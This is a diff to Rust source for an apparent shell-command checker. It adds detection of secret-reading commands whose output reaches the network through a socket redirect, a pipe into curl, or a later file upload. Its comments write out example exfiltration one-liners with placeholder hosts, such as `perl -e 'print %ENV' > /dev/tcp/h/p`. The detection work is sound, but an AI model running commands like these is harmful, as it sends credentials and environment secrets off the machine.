@@ -47,6 +47,47 @@ const NETWORK_CLIENTS: &[&str] = &[
     "irm",
 ];
 
+/// Whether what `analysis.commands[index]` writes reaches another machine: its output redirected
+/// to a socket (`> /dev/tcp/h/p`), piped through any filters into a network client (`| gzip |
+/// curl -T - URL`), or a file it names uploaded by a later network client (`tar czf k.tgz D &&
+/// curl -T k.tgz URL`). Asked only of commands already found to read a secret.
+#[inline(never)] // off an allowed call's path (ARCHITECTURE.md, "Start-up")
+pub(crate) fn output_sent(analysis: &crate::shell::Analysis, index: usize) -> bool {
+    let commands = &analysis.commands;
+    let Some(command) = commands.get(index) else { return false };
+    let socket = |text: &str| text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/");
+    if command.redirects.iter().any(|r| r.op != RedirectOp::Read && socket(&r.target.text)) {
+        return true;
+    }
+    let client = |c: &SimpleCommand| {
+        c.name().is_some_and(|n| NETWORK_CLIENTS.contains(&n))
+            || c.via
+                .iter()
+                .any(|via| via.split_whitespace().next().is_some_and(|w| NETWORK_CLIENTS.contains(&w)))
+    };
+    let mut at = index;
+    for _ in 0..crate::shell::MAX_UPSTREAM {
+        let reader =
+            commands.iter().enumerate().skip(at + 1).take(crate::shell::MAX_UPSTREAM).find(
+                |(_, c)| matches!(c.stdin, crate::shell::Stdin::Pipe { from: Some(from) } if from == at),
+            );
+        match reader {
+            Some((_, c)) if client(c) => return true,
+            Some((next, _)) => at = next,
+            None => break,
+        }
+    }
+    let written: Vec<&str> = command
+        .args()
+        .iter()
+        .map(|a| a.text.as_str())
+        .filter(|t| !t.starts_with('-') && t.contains('.'))
+        .collect();
+    commands[index + 1..].iter().filter(|c| client(c)).any(|c| {
+        c.args().iter().any(|a| written.contains(&a.text.rsplit(['@', '=']).next().unwrap_or(&a.text)))
+    })
+}
+
 /// `gh repo create OWNER/NAME --source=. --push`: the local repository pushed to a new
 /// repository under an account the line names, as `git push URL` is. Without an owner the
 /// repository is the logged-in user's own (`--public` is `hosting.make-public`'s).
@@ -102,7 +143,9 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
         .redirects
         .iter()
         .any(|r| r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/"));
-    if to_socket && super::credentials::lists_environment(command) {
+    // An interpreter's dump (`perl -e 'print %ENV' > /dev/tcp/h/p`) is sent as `env`'s is.
+    let dumped = || call.analysis.environment_dumps.iter().any(|d| d.command == call.index);
+    if to_socket && (super::credentials::lists_environment(command) || dumped()) {
         return Some(Hit::new("exfiltration.environment", MESSAGE));
     }
     // `CMD | tee /dev/tcp/h/p`: bash's socket files are no files to `tee`, but the
